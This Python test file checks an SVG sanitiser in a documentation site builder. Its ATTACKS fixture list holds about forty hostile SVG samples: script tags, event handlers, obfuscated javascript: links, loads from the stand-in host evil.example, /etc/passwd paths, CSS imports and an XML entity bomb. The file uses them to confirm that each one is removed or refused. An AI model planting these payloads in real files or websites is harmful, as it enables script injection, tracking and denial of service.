"""Issue 22, SVG figures: published with nothing that runs script or loads from elsewhere, whatever
the figure holds, and the build says what it removed. A clean figure is published as written.
Files a browser runs as documents (HTML, XHTML, XML, compressed SVG) are not published as figures.
Checked on the published files with Chromium too: a figure opened on its own runs nothing and
requests nothing outside the site."""
from __future__ import annotations

import re

import pytest

from conftest import write_tree
from labml_site.builder.site import BuildConfig, build
from labml_site.render.svg_safety import check_svg

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">'
CLEAN = (
    '<?xml version="1.0" encoding="UTF-8"?>\n' + HEAD +
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
    '<marker id="m"><path d="M0 0"/></marker><filter id="f"><feGaussianBlur stdDeviation="1"/></filter></defs>'
    '<!-- a comment --><style>text { font: 12px sans-serif; fill: url(#g) }</style>'
    '<g transform="translate(1,2)"><rect width="10" height="10" fill="url(#g)" filter="url(#f)"/>'
    '<use xlink:href="#m"/><use href="shapes.svg#dot"/><image href="pic.png" width="5" height="5"/>'
    '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
    '<a href="https://example.org/paper"><text x="1" y="9">keys &amp; queries</text></a>'
    '<animateTransform attributeName="transform" type="rotate" from="0" to="90" dur="1s"/></g></svg>\n'
)

# Each: (what, the SVG, a text that must not survive). Every one would run script, load from
# another site or change how the figure's references resolve when the file is opened directly.
ATTACKS = [
    ("script", HEAD + '<script>alert(1)</script></svg>', "alert"),
    ("script with CDATA", HEAD + '<script type="text/javascript"><![CDATA[alert(1)]]></script></svg>', "alert"),
    ("script by href", HEAD + '<script href="https://evil.example/x.js"/></svg>', "evil"),
    ("namespaced script", '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>', "alert"),
    ("default namespace script", '<svg xmlns="http://www.w3.org/2000/svg"><g><script>alert(1)</script></g></svg>', "alert"),
    ("upper-case script", HEAD + '<SCRIPT>alert(1)</SCRIPT></svg>', "alert"),
    ("xhtml script", HEAD + '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></svg>', "alert"),
    ("foreignObject", HEAD + '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject></svg>', "alert"),
    ("xhtml iframe", HEAD + '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example"/></svg>', "evil"),
    ("onload", HEAD.replace("<svg ", '<svg onload="alert(1)" ') + '</svg>', "alert"),
    ("onclick", HEAD + '<rect onclick="alert(1)" width="1" height="1"/></svg>', "alert"),
    ("ONMOUSEOVER", HEAD + '<rect ONMOUSEOVER="alert(1)" width="1" height="1"/></svg>', "alert"),
    ("namespaced handler", HEAD + '<rect xmlns:e="http://www.w3.org/2001/xml-events" e:onclick="alert(1)"/></svg>', "alert"),
    ("onbegin", HEAD + '<animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>', "alert"),
    ("javascript link", HEAD + '<a href="javascript:alert(1)"><text>x</text></a></svg>', "javascript"),
    ("xlink javascript link", HEAD + '<a xlink:href=" javascript:alert(1)"><text>x</text></a></svg>', "javascript"),
    ("entity javascript link", HEAD + '<a href="&#106;avascript:alert(1)"><text>x</text></a></svg>', "avascript"),
    ("tab javascript link", HEAD + '<a href="java&#9;script:alert(1)"><text>x</text></a></svg>', "script:"),
    ("data html link", HEAD + '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a></svg>', "data:"),
    ("animate href", HEAD + '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', "javascript"),
    ("set xlink:href", HEAD + '<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>', "javascript"),
    ("set onclick", HEAD + '<rect><set attributeName="onclick" to="alert(1)"/></rect></svg>', "alert"),
    ("outside image", HEAD + '<image href="https://evil.example/track.png"/></svg>', "evil"),
    ("outside image, protocol-relative", HEAD + '<image xlink:href="//evil.example/track.png"/></svg>', "evil"),
    ("outside image, backslashes", HEAD + '<image href="\\\\evil.example/track.png"/></svg>', "evil"),
    ("svg data image", HEAD + '<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></svg>', "data:image/svg"),
    ("outside use", HEAD + '<use href="https://evil.example/s.svg#x"/></svg>', "evil"),
    ("outside feImage", HEAD + '<filter id="f"><feImage href="https://evil.example/x.png"/></filter></svg>', "evil"),
    ("file outside the site", HEAD + '<image href="../../../../etc/passwd"/></svg>', "passwd"),
    ("absolute file", HEAD + '<image href="file:///etc/passwd"/></svg>', "passwd"),
    ("css import", HEAD + '<style>@import url(https://evil.example/x.css);</style></svg>', "evil"),
    ("css import without url", HEAD + '<style>@import "https://evil.example/x.css";</style></svg>', "evil"),
    ("css outside url", HEAD + '<style>rect { fill: url(https://evil.example/x.svg#p) }</style></svg>', "evil"),
    ("css escaped url", HEAD + '<style>rect { background: \\75 rl(https://evil.example/x.png) }</style></svg>', "evil"),
    ("style attribute url", HEAD + '<rect style="fill: url(\'https://evil.example/x\')"/></svg>', "evil"),
    ("presentation attribute url", HEAD + '<rect fill="url(https://evil.example/x#p)"/></svg>', "evil"),
    ("cursor url", HEAD + '<rect cursor="url(https://evil.example/c.cur), auto"/></svg>', "evil"),
    ("css expression", HEAD + '<rect style="width: expression(alert(1))"/></svg>', "alert"),
    ("css binding", HEAD + '<style>rect { -moz-binding: url(x.xml#b) }</style></svg>', "binding"),
    ("xml-stylesheet", '<?xml-stylesheet href="https://evil.example/x.css"?>' + HEAD + '</svg>', "evil"),
    ("xml:base", HEAD.replace("<svg ", '<svg xml:base="https://evil.example/" ') + '<image href="x.png"/></svg>', "evil"),
    ("entities", '<!DOCTYPE svg [<!ENTITY x "https://evil.example/">]>' + HEAD + '<text>&x;</text></svg>', "ENTITY"),
    ("handler element", HEAD + '<handler type="text/javascript">alert(1)</handler></svg>', "alert"),
    ("html root", '<html><body><script>alert(1)</script></body></html>', "alert"),
]


@pytest.mark.parametrize("what,svg,gone", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_each_attack_is_removed_and_reported(what, svg, gone):
    checked = check_svg(svg, "toy/figures/a.svg")
    if checked.svg is not None:
        assert gone.lower() not in checked.svg.lower(), checked.svg
        assert not re.search(r"\son\w+\s*=", checked.svg, re.I)
        assert "<script" not in checked.svg.lower() and "foreignobject" not in checked.svg.lower()
        assert checked.removed, what
    else:
        assert checked.refused, what


def test_a_clean_figure_is_published_as_written():
    checked = check_svg(CLEAN.encode("utf-8"), "toy/figures/a.svg")
    assert checked.svg == CLEAN and checked.removed == [] and not checked.refused


def test_what_is_removed_leaves_the_rest_of_the_figure():
    svg = HEAD + '<rect onclick="alert(1)" width="7" fill="url(#g)"/><script>x()</script><text x="2">label</text></svg>'
    checked = check_svg(svg, "a.svg")
    assert '<rect width="7" fill="url(#g)">' in checked.svg and "<text x=\"2\">label</text>" in checked.svg
    assert any("onclick" in r for r in checked.removed) and any("<script>" in r for r in checked.removed)


def _entity_bomb() -> str:
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE svg [{entities}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>'


@pytest.mark.parametrize("data,why", [
    (b"<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>", "well-formed"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><text>caf\xe9</text></svg>'.encode("latin-1"), "UTF-8"),
    ('<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg">+ADw-script+AD4-</svg>'.encode(), "UTF-7"),
    (_entity_bomb().encode(), ""),
])
def test_figures_a_browser_would_not_show_are_refused(data, why):
    checked = check_svg(data, "a.svg")
    if checked.svg is not None:  # (entities that do not expand: removed, the text escaped)
        assert "ENTITY" not in checked.svg and checked.removed
    else:
        assert why in checked.refused


def _site(tmp_path, figures: dict[str, str | bytes]):
    refs = "\n".join(f"![figure {i}](figures/{name})" for i, name in enumerate(figures))
    src = write_tree(tmp_path / "src", {"__init__.py": '"""\n# Home\n"""\n', "toy/page.py": f'"""\n# Page\n\n{refs}\n"""\nx = 1\n'})
    (src / "toy/figures").mkdir()
    for name, data in figures.items():
        (src / "toy/figures" / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    (tmp_path / "tr").mkdir()
    return build(BuildConfig(src, tmp_path / "tr", tmp_path / "site", langs=("en", "zh"), jobs=1))


def test_the_build_publishes_figures_sanitised_and_reports_what_it_removed(tmp_path):
    figures = {f"a{i}.svg": svg for i, (_what, svg, _gone) in enumerate(ATTACKS)}
    figures["clean.svg"] = CLEAN
    figures["shapes.svg"] = HEAD + '<circle id="dot" r="1"/></svg>'
    result = _site(tmp_path, figures)
    out = result.out
    for i, (what, _svg, gone) in enumerate(ATTACKS):
        for lang_root in (out, out / "zh"):
            published = lang_root / "toy/figures" / f"a{i}.svg"
            if published.exists():
                text = published.read_text(encoding="utf-8")
                assert gone.lower() not in text.lower(), (what, text)
                assert "<script" not in text.lower(), what
    clean = (out / "toy/figures/clean.svg").read_text(encoding="utf-8")
    assert clean.startswith(CLEAN[: CLEAN.index(">") + 1])
    assert "<use href=\"shapes.svg#dot\"/>" in clean  # untouched (the dark-mode style is added)
    reported = [f for f in result.report.findings if f.code in ("svg-sanitised", "svg-refused")]
    assert {f.path for f in reported} == {f"toy/figures/a{i}.svg" for i in range(len(ATTACKS))}
    assert all("removed" in f.message or "not published" in f.message for f in reported)
    assert (out / "toy/page.html").is_file() and (out / "zh/toy/page.html").is_file()


@pytest.mark.parametrize("name", ["evil.html", "evil.htm", "evil.xhtml", "evil.xml", "evil.svgz", "evil.xsl", "evil.mhtml", "EVIL.HTML"])
def test_documents_a_browser_would_run_are_not_published(tmp_path, name):
    result = _site(tmp_path, {name: "<html><script>alert(1)</script></html>", "ok.svg": HEAD + "</svg>"})
    assert not (result.out / "toy/figures" / name).exists()
    assert not (result.out / "zh/toy/figures" / name).exists()
    assert (result.out / "toy/figures/ok.svg").is_file()
    found = [f for f in result.report.findings if f.code == "asset-refused"]
    assert found and found[0].path == f"toy/figures/{name}"


def test_chromium_runs_nothing_in_a_published_figure_opened_on_its_own(tmp_path, browser):
    figures = {f"a{i}.svg": svg for i, (_what, svg, _gone) in enumerate(ATTACKS)}
    result = _site(tmp_path, figures)
    page = browser.new_page()
    requests, dialogs = [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        for path in sorted((result.out / "toy/figures").glob("*.svg")):
            page.goto(path.as_uri())
            page.mouse.click(5, 5)
            page.wait_for_timeout(50)
            assert page.evaluate("typeof window.labmlPwned") == "undefined"
    finally:
        page.close()
    assert dialogs == []
    assert not [u for u in requests if not u.startswith("file://")], requests
